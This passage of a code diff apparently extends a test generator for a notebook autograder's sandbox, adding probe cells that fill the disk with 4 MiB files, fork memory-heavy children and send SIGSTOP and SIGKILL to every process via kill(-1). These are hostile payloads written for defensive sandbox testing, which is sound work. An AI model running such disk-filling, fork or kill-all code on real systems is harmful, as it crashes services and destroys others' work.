+try:
+    while True:
+        with open(f'fill-{_i:04d}.bin', 'wb') as _f:
+            _f.write(bytes(4 * 2**20))
+        _written, _i = _written + 4, _i + 1
+except OSError as _error:
+    _stat = os.statvfs('.')
+    print('BLOCKED disk', errno.errorcode.get(_error.errno), 'after', _written, 'MiB of',
+          _stat.f_blocks * _stat.f_frsize // 2**20, 'MiB')
+for _j in range(_i + 1):
+    if os.path.exists(f'fill-{_j:04d}.bin'):
+        os.remove(f'fill-{_j:04d}.bin')
+""")
+    kill_all = _probe("""
+import os, signal
+print('PROCESSES', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()), 'me', os.getpid())
+if os.getuid() != 0 and len([p for p in os.listdir('/proc') if p.isdigit()]) < 10:
+    for _number in (signal.SIGSTOP, signal.SIGKILL):
+        try:
+            os.kill(-1, _number)
+            print('KILL -1 sent', int(_number))
+        except OSError as _error:
+            print('KILL -1 refused', int(_number), type(_error).__name__)
+else:
+    print('SKIPPED kill: the sandbox does not look isolated')
+""")
     answers = correct_answers()
     return [
         _notebook_case("sbx-baseline", "baseline", "every answer right, under the tight limits", filled()),
@@ -394,10 +1209,20 @@ except OSError as _error:
                                                                                            answers))),
         _notebook_case("sbx-cpu", "sandbox: CPU time", "an uninterruptible busy loop in the last answer cell",
                        filled(_append("majority", cpu, answers))),
-        _notebook_case("sbx-processes", "sandbox: processes", "forks 500 processes",
-                       filled(_append("heaviside", processes, answers))),
+        _notebook_case("sbx-processes", "sandbox: processes", "forks 500 processes in the last answer cell",
+                       filled(_append("majority", processes, answers))),
         _notebook_case("sbx-file-size", "sandbox: output size", "writes a 64 MiB file",
                        filled(_append("heaviside", file_size, answers))),
+        _notebook_case("sbx-descriptors", "#37 / sandbox: inherited files", "lists its open file descriptors",
+                       filled(_append("heaviside", descriptors, answers))),
+        _notebook_case("sbx-fill-work", "#38 / sandbox: disk", "fills its working copy with 4 MiB files",
+                       filled(_append("heaviside", fill_work, answers))),
+        _notebook_case("sbx-fork-memory", "#38 / sandbox: memory of all processes", f"forks {SANDBOX_FORKS} "
+                       f"children of {SANDBOX_FORK_MB} MiB each in the last answer cell",
+                       filled(_append("majority", FORK_MEMORY.replace("FORKS", str(SANDBOX_FORKS))
+                                      .replace("FORK_MB", str(SANDBOX_FORK_MB)), answers))),
+        _notebook_case("sbx-kill-all", "#45 / sandbox: signals", "sends SIGSTOP and SIGKILL to every process it "
+                       "may signal (kill -1)", filled(_append("heaviside", kill_all, answers))),
     ]
 
 
@@ -407,5 +1232,6 @@ def write_class(cases: list[Case], dest: Path) -> Path:
         folder = dest / case.student
         folder.mkdir(parents=True, exist_ok=True)
         for name, data in case.files.items():
+            (folder / name).parent.mkdir(parents=True, exist_ok=True)
             (folder / name).write_bytes(data)
     return dest
